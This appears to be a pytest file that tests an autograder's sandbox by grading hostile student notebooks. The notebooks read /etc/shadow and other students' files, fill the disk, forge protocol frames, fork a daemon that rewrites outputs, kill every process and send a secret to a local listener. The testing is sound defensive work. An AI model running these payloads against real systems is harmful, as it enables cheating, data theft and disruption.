"""Hostile notebooks against the grader's isolation boundary, graded through the real CLI (``make grade``'s command).

One batch holds an honest submission (the reference example) and one submission per attack, each the blank
release plus a hostile cell (``ATTACKS``). Every attack turns success into points: a notebook that reaches a
secret, a classmate's notebook or a file an earlier notebook left executes the reference code it finds there, so
"it gains nothing" is "it scores what the blank release scores: 0". The batch runs

- as root (CI), with the full sandbox;
- as an ordinary user that the test creates (the rootless sandbox: user namespaces, no privilege);
- with ``UNSAFE=1``, for a few attacks only, as the positive control: there the same notebooks *do* gain points,
  so the attacks are real and the protected runs' zeros mean something.

Each run must complete with a row for every submission and the honest one at full marks; nothing an attack
wrote may survive on the host, and the submissions and outputs must be as the grader left them.
"""

import hashlib
import json
import os
import pwd
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import nbformat
import pytest

from compresslab.grading.autograders import questions

from conftest import ROOT

NAME = "int8_cnn"
BLANK = ROOT / "data" / "examples" / "blank" / f"{NAME}.ipynb"
REFERENCE = ROOT / "data" / "examples" / "reference" / f"{NAME}.ipynb"
MARK = "compresslab-hostile-mark"  # in every file name and process an attack leaves, to look for them afterwards
USER = "compresslab-rootless"

GAIN = '''
import json, os
def _gain_from(path):
    """Execute the code cells of a notebook found at ``path`` that define functions: the reference answers."""
    try:
        cells = json.load(open(path))["cells"]
    except Exception:
        return False
    for cell in cells:
        source = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
        if cell["cell_type"] == "code" and ("def " in source or "class " in source):
            try:
                exec(source, globals())
            except Exception:
                pass
    return True
'''

FROM_FIXTURES = '''
import torch
def _gain_from_fixtures(path):
    try:
        stored = torch.load(path, weights_only=True)["quantized_weights"]
    except Exception:
        return False
    global quantized_weights
    def quantized_weights(w):
        for case in stored.values():
            if case["input"].shape == w.shape and torch.equal(case["input"], w):
                return case["output"].clone(), case["scale"]
        raise NotImplementedError()
    return True
'''

FRAMES = '''
import os, struct
def _to_every_pipe(data):
    for fd in map(int, os.listdir("/proc/self/fd")):
        if fd > 2:
            try:
                os.write(fd, data)
            except OSError:
                pass
def _frame(kind, payload=b""):
    return struct.pack(">cI", kind, len(payload)) + payload
'''


def _attacks(paths: dict) -> dict[str, str]:
    """Submission name -> the hostile cell appended to the blank release. ``paths``: what the attacks aim at."""
    reference_source = json.dumps(REFERENCE.read_text())
    return {
        "reads_reference_example": GAIN + f"_gain_from({str(paths['reference'])!r})",
        "reads_other_checkout": GAIN + f"_gain_from({str(paths['other_checkout'])!r})",
        "reads_classmate": GAIN + f"_gain_from({str(paths['classmate'])!r})",
        "reads_fixtures": FROM_FIXTURES + f"_gain_from_fixtures({str(paths['fixtures'])!r}) or _gain_from_fixtures({str(paths['data_fixtures'])!r})",
        "reads_shadow": GAIN + "open('/etc/shadow').read() and _gain_from(" + repr(str(paths["reference"])) + ")",
        # a_ runs before b_ (one zygote, in name order): b_ gains if anything a_ wrote survived into its sandbox
        "a_leaves_files": (f"import os\nsource = {reference_source}\n"
                           f"for folder in ('/tmp', '/var/tmp', '/dev/shm', os.getcwd(), os.path.expanduser('~')):\n"
                           f"    try:\n        open(os.path.join(folder, '{MARK}.ipynb'), 'w').write(source)\n    except OSError:\n        pass\n"),
        "b_finds_files": GAIN + f"import os\nfor folder in ('/tmp', '/var/tmp', '/dev/shm', os.path.expanduser('~')):\n"
                                f"    _gain_from(os.path.join(folder, '{MARK}.ipynb'))\n",
        "fills_disk": (f"import os\nfor folder in ('/tmp', '/var/tmp', '/dev/shm', os.getcwd()):\n"
                       f"    try:\n        with open(os.path.join(folder, '{MARK}-fill'), 'wb') as f:\n"
                       f"            while True:\n                f.write(b'x' * 2**20)\n    except OSError:\n        pass\n"),
        "one_byte_on_every_pipe": FRAMES + "_to_every_pipe(b' ')",
        "steers_the_protocol": FRAMES + "_to_every_pipe(_frame(b'D') + _frame(b'R', b'\\0' * 16))",
        "forges_records_in_the_tests": FRAMES + (
            "import json\n"
            "def quantized_weights(w):\n"
            "    huge = {'__tensor__': ['float32', [2**26, 2**26], 0, 4]}\n"
            "    record = {'kind': 'equal', 'name': 'x', 'actual': huge, 'expected': huge, 'from_student': True}\n"
            "    header = json.dumps({'cases': {'q2': {'q2 - 1': {'error': None, 'records': [record] * 4}}}, 'errors': [],"
            " 'skipped': 0, 'undone': [], 'busy': 0.0}).encode()\n"
            "    _to_every_pipe(_frame(b'R', struct.pack('>Q', len(header)) + header + b'\\0' * 4))\n"
            "    os._exit(0)\n"),
        "digs_in_memory": (
            "import gc, sys\n"
            "def quantized_weights(w):\n"
            "    found = [o for o in gc.get_objects() if isinstance(o, str) and '@test_case' in o]\n"
            "    frame, texts = sys._getframe(), []\n"
            "    while frame is not None:\n"
            "        texts += [repr(v)[:2000] for v in frame.f_locals.values()]\n"
            "        frame = frame.f_back\n"
            "    raise AssertionError(' '.join(found + texts)[:5000])\n"),
        "daemon_outlives_the_grading": (
            "import os, time, signal\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        import sys; sys.argv[0] = '{MARK}-daemon'\n"
            "        time.sleep(4)\n"
            f"        for target in {[str(p) for p in paths['outputs']]!r}:\n"
            "            try:\n                open(target, 'w').write('forged')\n            except OSError:\n                pass\n"
            "        time.sleep(60)\n"
            "    os._exit(0)\n"),
        "kills_everything": ("import os, signal\n"
                             "for pid in [int(p) for p in os.listdir('/proc') if p.isdigit()] + [-1]:\n"
                             "    try:\n        os.kill(pid, signal.SIGKILL) if pid not in (os.getpid(), 1) else None\n    except OSError:\n        pass\n"),
        "overwrites_classmate": f"open({str(paths['classmate'])!r}, 'w').write('{{}}')",
        "calls_home": GAIN + (f"import socket\ns = socket.create_connection(('127.0.0.1', {paths['port']}), timeout=2)\n"
                              "s.sendall(b'secret')\n"),
    }


UNSAFE_CONTROL = ("reads_reference_example", "reads_classmate", "reads_fixtures", "a_leaves_files", "b_finds_files")


def _batch(folder: Path, attacks: dict[str, str]) -> Path:
    submissions = folder / "submissions"
    (submissions / "honest").mkdir(parents=True)
    shutil.copyfile(REFERENCE, submissions / "honest" / f"{NAME}.ipynb")
    for name, cell in attacks.items():
        nb = nbformat.read(BLANK, as_version=4)
        nb.cells.append(nbformat.v4.new_code_cell(cell))
        (submissions / name).mkdir()
        nbformat.write(nb, submissions / name / f"{NAME}.ipynb")
    return submissions


class _Listener:
    """A TCP server on 127.0.0.1 that remembers whether anyone sent it anything."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(100))


def _leftovers() -> list[str]:
    found = [str(p) for folder in ("/tmp", "/var/tmp", "/dev/shm") for p in Path(folder).glob(f"**/{MARK}*")]
    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if MARK.encode() in cmdline.read_bytes():
                found.append(f"process {cmdline.parent.name}")
        except OSError:
            pass
    return found


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _grade(submissions: Path, out: Path, user: str | None = None, extra_env: dict | None = None) -> subprocess.CompletedProcess:
    env = {**os.environ, "JOBS": "1", "SCRATCH_GB": "0.25", "CELL_TIMEOUT": "120", **(extra_env or {})}
    command = [sys.executable, "-m", "compresslab.grading.cli", str(submissions), "--out", str(out), "--notebooks", NAME]
    if user is not None:
        command = ["runuser", "-u", user, "--", "env", *(f"{k}={v}" for k, v in env.items() if k in ("JOBS", "SCRATCH_GB", "CELL_TIMEOUT", "PYTHONHASHSEED", "MPLBACKEND", "UNSAFE", "COMPRESSLAB_DATA")), f"HOME={out.parent}", *command]
    return subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=1800, env=env)


def _scores(out: Path) -> dict[str, tuple[float, str, str]]:
    """student -> (total score, statuses, messages) from the gradebook."""
    import csv

    with open(out / "gradebook.csv", newline="") as file:
        return {row["student"]: (float(row["total"]), row["status"], row["message"]) for row in csv.DictReader(file)}


def _setup(folder: Path) -> tuple[Path, dict, _Listener]:
    """The targets outside the grader's allow-list: another checkout, a copy of the data folder (``COMPRESSLAB_DATA``)."""
    other = folder / "other-checkout"
    (other / "data" / "examples" / "reference").mkdir(parents=True)
    shutil.copyfile(REFERENCE, other / "data" / "examples" / "reference" / f"{NAME}.ipynb")
    data = _data_copy(folder)  # not in /tmp or /var/tmp, which each notebook gets privately
    shutil.copytree(ROOT / "data", data, ignore=shutil.ignore_patterns("examples"))
    listener = _Listener()
    out = folder / "out"
    submissions = folder / "submissions"
    paths = {"reference": REFERENCE, "other_checkout": other / "data" / "examples" / "reference" / f"{NAME}.ipynb",
             "classmate": submissions / "honest" / f"{NAME}.ipynb", "fixtures": ROOT / "data" / "fixtures" / f"{NAME}.pt",
             "data_fixtures": data / "fixtures" / f"{NAME}.pt", "outputs": [out / "scores.csv", out / "gradebook.csv", out / "journal.jsonl"],
             "port": listener.port}
    return data, paths, listener


@pytest.fixture
def folder():
    """A batch folder every user can reach and write (pytest's own are mode 700): the ordinary user writes its outputs
    there. In /var/tmp, which the notebooks never see (each gets a private, empty one)."""
    path = Path(tempfile.mkdtemp(prefix="compresslab-hostile-", dir="/var/tmp"))
    path.chmod(0o777)
    yield path
    shutil.rmtree(path, ignore_errors=True)
    shutil.rmtree(_data_copy(path), ignore_errors=True)


def _data_copy(folder: Path) -> Path:
    return ROOT / "build" / f"{folder.name}-data"


def _check_protected_run(folder: Path, user: str | None) -> None:
    data, paths, listener = _setup(folder)
    attacks = _attacks(paths)
    submissions = _batch(folder, attacks)
    honest = _digest(submissions / "honest" / f"{NAME}.ipynb")
    run = _grade(submissions, folder / "out", user, {"COMPRESSLAB_DATA": str(data)})
    assert run.returncode == 0, run.stderr[-3000:]
    outputs = {path: _digest(path) for path in paths["outputs"]}
    time.sleep(6)  # the daemon would have written by now
    scores = _scores(folder / "out")
    assert set(scores) == {"honest", *attacks}, "every submission has a row"
    assert scores["honest"][0] == sum(q.points for q in questions(ROOT / "autograder" / f"{NAME}-autograder.zip")), scores["honest"]
    gained = {name: scores[name] for name in attacks if scores[name][0] != 0.0}
    assert not gained, f"attacks that gained points: {gained}"
    for name in ("one_byte_on_every_pipe", "steers_the_protocol", "forges_records_in_the_tests"):
        assert scores[name][1] == "crashed" and ("protocol" in scores[name][2] or "malformed" in scores[name][2]), (name, scores[name])
    assert {path: _digest(path) for path in paths["outputs"]} == outputs, "a process of a notebook rewrote the outputs"
    assert _digest(submissions / "honest" / f"{NAME}.ipynb") == honest, "a notebook rewrote a classmate's submission"
    assert _leftovers() == [], "files or processes a notebook left on the host"
    assert listener.received == [], "a notebook reached the network"
    feedback = (folder / "out" / "feedback" / "digs_in_memory" / f"{NAME}.md").read_text()
    assert "@test_case" not in feedback and "check_equal(" not in feedback, "hidden test code reached the feedback"


@pytest.mark.skipif(os.geteuid() != 0 and os.environ.get("CI") != "true", reason="grading as root needs root: run `sudo make test` (CI runs as root)")
def test_as_root_no_attack_gains_stops_leaves_or_leaks_anything(folder):
    _check_protected_run(folder, None)


@pytest.fixture(scope="module")
def ordinary_user():
    """An ordinary user made for this test (removed after): the rootless grader of a TA's laptop."""
    if os.geteuid() != 0:
        if os.environ.get("CI") == "true":
            pytest.fail("CI runs as root, which this test needs to create an ordinary user")
        pytest.skip("creating an ordinary user needs root: run `sudo make test` (CI runs as root)")
    try:
        pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", USER], check=True)
    yield USER
    subprocess.run(["userdel", USER], check=False)


def test_as_an_ordinary_user_no_attack_gains_stops_leaves_or_leaks_anything(folder, ordinary_user):
    _check_protected_run(folder, ordinary_user)


@pytest.mark.skipif(os.geteuid() != 0 and os.environ.get("CI") != "true", reason="as root, like the protected run: run `sudo make test`")
def test_without_isolation_the_same_attacks_do_gain_points(folder):
    data, paths, _ = _setup(folder)
    attacks = {name: cell for name, cell in _attacks(paths).items() if name in UNSAFE_CONTROL}
    submissions = _batch(folder, attacks)
    without_bubblewrap = {"PATH": str(folder / "no-bubblewrap-here")}  # a host where the sandbox cannot run, and UNSAFE=1
    try:
        run = _grade(submissions, folder / "out", None, {"COMPRESSLAB_DATA": str(data), "UNSAFE": "1", **without_bubblewrap})
    finally:
        for path in [p for top in ("/tmp", "/var/tmp", "/dev/shm") for p in Path(top).glob(f"{MARK}*")]:
            path.unlink()  # what a_leaves_files left for b_finds_files, as nothing stopped it
    assert run.returncode == 0, run.stderr[-3000:]
    scores = _scores(folder / "out")
    assert all(scores[name][0] > 0 for name in attacks if name != "a_leaves_files"), scores
    assert all("graded unsafely" in scores[name][2] for name in scores), scores


def test_without_bubblewrap_grading_refuses_to_start_unless_unsafe(tmp_path):
    env = {**os.environ, "PATH": str(tmp_path / "no-bubblewrap-here")}
    submissions = _batch(tmp_path, {})
    run = subprocess.run([sys.executable, "-m", "compresslab.grading.cli", str(submissions), "--out", str(tmp_path / "out"), "--notebooks", NAME],
                         cwd=ROOT, capture_output=True, text=True, timeout=600, env=env)
    assert run.returncode == 2 and "bubblewrap is not installed" in run.stderr and "UNSAFE=1" in run.stderr, run.stderr
    assert not (tmp_path / "out" / "gradebook.csv").exists()
